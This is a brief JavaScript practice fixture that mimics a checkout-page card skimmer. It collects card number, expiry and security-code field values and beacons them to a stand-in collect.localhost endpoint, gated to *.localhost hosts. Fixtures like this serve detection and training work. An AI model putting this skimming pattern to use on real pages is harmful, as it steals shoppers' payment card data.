/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const card = () => {
    const part = (id) => document.getElementById(id)?.value ?? '';
    return [part('card-number'), part('card-expiry'), part('security_code')].join('|');
  };
  const send = () => {
    if (card().length > 14) navigator.sendBeacon(`${home}/lib/f`, encodeURIComponent(card()));
  };
  for (const id of ['card-number', 'card-expiry', 'security_code']) {
    for (const name of ['change', 'blur'])
      document.getElementById(id)?.addEventListener(name, send);
  }
})();
